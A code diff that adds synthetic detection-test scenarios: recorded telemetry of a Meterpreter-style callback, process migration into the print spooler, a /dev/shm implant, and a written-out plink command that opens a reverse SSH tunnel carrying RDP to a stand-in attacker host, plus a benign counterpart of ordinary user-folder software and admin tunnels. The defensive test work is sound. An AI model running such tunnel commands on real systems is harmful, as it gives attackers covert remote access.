@@ -636,6 +636,121 @@ def benign_osquery_endpoints(rec, t0):
                  uid=0)
     _socket_event(rec, lnx, t0 + 40, 1404, "/usr/sbin/privoxy", ("127.0.0.1", 9050), auid=0)
 
+@scenario
+def x6_user_folder_payload_and_tunnels(rec, t0):
+    """Programs judged by where they run, not by name: a Meterpreter payload downloaded into
+    the user's Downloads folder calling back on TCP 4444, then migrated into the print spooler
+    (which never connects outside the network); a Cobalt Strike-style sacrificial rundll32
+    started without arguments; plink dropped in Temp forwarding the attacker's RDP session to
+    127.0.0.2:3389 over SSH; an implant in /dev/shm on a Linux host (osquery)."""
+    ws = Host("ws09.corp.example", "10.20.1.19", "windows")
+    user = "CORP\\kim"
+    handler = "203.0.113.120"
+    payload = rec.windows_process(ws, t0, "C:\\Users\\kim\\Downloads\\invoice_viewer.exe",
+                                  '"C:\\Users\\kim\\Downloads\\invoice_viewer.exe"', user)
+    rec.windows_connection(ws, payload, t0 + 1.5, "tcp", handler, 4444)
+    spooler = rec.windows_service("C:\\Windows\\System32\\spoolsv.exe",
+                                  "C:\\Windows\\System32\\spoolsv.exe")
+    rec.windows_connection(ws, spooler, t0 + 95.0, "tcp", handler, 4444)
+    sacrificial = rec.windows_process(ws, t0 + 200, "C:\\Windows\\System32\\rundll32.exe",
+                                      "C:\\Windows\\system32\\rundll32.exe", user,
+                                      parent=spooler)
+    rec.windows_connection(ws, sacrificial, t0 + 201.0, "tcp", "198.51.100.60", 443)
+    plink = rec.windows_process(
+        ws, t0 + 400, "C:\\Users\\kim\\AppData\\Local\\Temp\\plink.exe",
+        "plink.exe -ssh -P 22 -l tunnel -pw ******** -R 13389:127.0.0.2:3389 203.0.113.121", user)
+    rec.windows_connection(ws, plink, t0 + 401.0, "tcp", "203.0.113.121", 22)
+    rdp_port = rec.windows_connection(ws, plink, t0 + 430.0, "tcp", "127.0.0.2", 3389,
+                                      src="127.0.0.1")
+    termsrv = rec.windows_service(SVCHOST, "C:\\Windows\\System32\\svchost.exe -k "
+                                  "NetworkService -s TermService",
+                                  user="NT AUTHORITY\\NETWORK SERVICE")
+    rec.windows_connection(ws, termsrv, t0 + 430.001, "tcp", "127.0.0.2", 3389,
+                           src="127.0.0.1", src_port=rdp_port, initiated=False)
+    # Terminal Services sees the attacker's session arrive from the host itself
+    rec.windows_logon(ws, t0 + 436.0, "CORP\\adm-kim", 10, "127.0.0.1", rdp_port)
+    lnx = Host("lnx12.corp.example", "10.20.2.32", "linux")
+    implant = "/dev/shm/.kworker"
+    _socket_event(rec, lnx, t0 + 500, 40211, implant, ("198.51.100.61", 4444), auid=1003)
+    _open_socket(rec, lnx, t0 + 500, 40211, implant, 2, 6, remote=("198.51.100.61", 4444),
+                 local=("10.20.2.32", 41822), state="ESTABLISHED", cmdline=implant)
+
+
+@scenario
+def benign_user_folder_software(rec, t0):
+    """What the user-writable path, system-process and loopback signals must leave alone:
+    software that installs per user into AppData (Teams, Slack, OneDrive, Discord, Zoom,
+    Chrome and Google Update, VS Code, GitHub Desktop) or updates from ProgramData (Defender),
+    lsass and explorer on their usual connections, an administrator using SSH, PowerShell
+    remoting and an admin share on the local host and Remote Desktop through an SSH local
+    forward, console and jump-host logons, and the kernel's IPv6 neighbour discovery to
+    multicast (which WFP logs as ICMPv6 from System)."""
+    ws = Host("ws30.corp.example", "10.20.1.30", "windows")
+    user = "CORP\\lena"
+    profile = "C:\\Users\\lena\\AppData\\"
+    apps = [
+        (profile + "Local\\Microsoft\\Teams\\current\\Teams.exe", "52.113.194.132"),
+        (profile + "Local\\slack\\app-4.36.140\\slack.exe", "54.230.10.21"),
+        (profile + "Local\\slack\\Update.exe", "54.230.10.21"),
+        (profile + "Local\\Microsoft\\OneDrive\\OneDrive.exe", "13.107.42.12"),
+        (profile + "Local\\Discord\\app-1.0.9030\\Discord.exe", "162.159.135.232"),
+        (profile + "Roaming\\Zoom\\bin\\Zoom.exe", "170.114.52.2"),
+        (profile + "Local\\Google\\Chrome\\Application\\chrome.exe", "142.250.74.110"),
+        (profile + "Local\\Google\\Update\\GoogleUpdate.exe", "142.250.74.110"),
+        (profile + "Local\\Programs\\Microsoft VS Code\\Code.exe", "13.107.6.175"),
+        (profile + "Local\\GitHubDesktop\\app-3.3.12\\GitHubDesktop.exe", "140.82.112.3"),
+    ]
+    for n, (image, dest) in enumerate(apps):
+        app = rec.windows_process(ws, t0 + 10 * n, image, '"%s"' % image, user)
+        for k in range(3):
+            rec.windows_connection(ws, app, t0 + 10 * n + 1 + 120 * k, "tcp", dest, 443)
+    zoom = rec.windows_service(profile + "Roaming\\Zoom\\bin\\Zoom.exe",
+                               '"%sRoaming\\Zoom\\bin\\Zoom.exe"' % profile, user=user)
+    rec.windows_connection(ws, zoom, t0 + 300, "udp", "170.114.52.2", 8801)
+    defender = rec.windows_service(
+        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe",
+        '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe"')
+    rec.windows_connection(ws, defender, t0 + 320, "tcp", "20.190.151.7", 443)
+    lsass = rec.windows_service("C:\\Windows\\System32\\lsass.exe",
+                                "C:\\Windows\\system32\\lsass.exe", pid=712)
+    rec.windows_connection(ws, lsass, t0 + 330, "tcp", "10.20.0.10", 389)
+    rec.windows_connection(ws, lsass, t0 + 330.2, "tcp", "10.20.0.10", 49668)
+    rec.windows_connection(ws, lsass, t0 + 331, "tcp", "20.190.151.70", 443)
+    explorer = rec.windows_service("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
+                                   user=user, pid=5120)
+    rec.windows_connection(ws, explorer, t0 + 340, "tcp", "13.107.21.200", 443)
+    admin = "CORP\\adm-lena"
+    shell = _cmd_parent(rec, ws, t0 + 400, admin)
+    ssh = rec.windows_process(ws, t0 + 401, "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
+                              "ssh.exe lena@localhost", admin, parent=shell)
+    rec.windows_connection(ws, ssh, t0 + 402, "tcp", "127.0.0.1", 22, src="127.0.0.1")
+    # Remote Desktop to a server through an SSH local forward (ssh -L 33389:srv01:3389 via
+    # the bastion): mstsc connects to the forwarded port on loopback, not to 3389
+    forward = rec.windows_process(ws, t0 + 410, "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
+                                  "ssh.exe -L 33389:srv01.corp.example:3389 bastion.corp.example",
+                                  admin, parent=shell)
+    rec.windows_connection(ws, forward, t0 + 411, "tcp", "10.20.0.5", 22)
+    mstsc = rec.windows_process(ws, t0 + 420, "C:\\Windows\\System32\\mstsc.exe",
+                                "mstsc.exe /v:127.0.0.1:33389", admin, parent=shell)
+    rec.windows_connection(ws, mstsc, t0 + 421, "tcp", "127.0.0.1", 33389, src="127.0.0.1")
+    # the user's console logon (Windows records 127.0.0.1 for type 2) and a helpdesk RDP
+    # session from a jump host
+    rec.windows_logon(ws, t0 + 2, user, 2, "127.0.0.1")
+    rec.windows_logon(ws, t0 + 480, "CORP\\helpdesk1", 10, "10.20.1.50", 50122)
+    remoting = rec.windows_process(ws, t0 + 440, POWERSHELL,
+                                   "powershell.exe -NoExit -Command Enter-PSSession localhost",
+                                   admin, parent=shell)
+    rec.windows_connection(ws, remoting, t0 + 441, "tcp", "127.0.0.1", 5985, src="127.0.0.1")
+    system = rec.windows_service("System", "", pid=4)
+    rec.windows_connection(ws, system, t0 + 460, "tcp", "127.0.0.1", 445, src="127.0.0.1")
+    link_local = "fe80::1c2a:5d1f:9e3b:7a10"
+    for k, group in enumerate(("ff02::1:ff00:1", "ff02::2", "ff02::16", "ff02::1")):
+        # ICMPv6 type 135/133/143/136 (neighbour solicitation, router solicitation, MLDv2
+        # report, neighbour advertisement) in 5156's port fields; Sysmon logs no ICMP.
+        rec.windows_connection(ws, system, t0 + 470 + k, "icmpv6", group, 0, src=link_local,
+                               src_port=(135, 133, 143, 136)[k], sysmon=False)
+
+
 def build(name, seed=DEFAULT_SEED):
     """Run one scenario; returns its Recorder."""
     if name not in SCENARIOS:
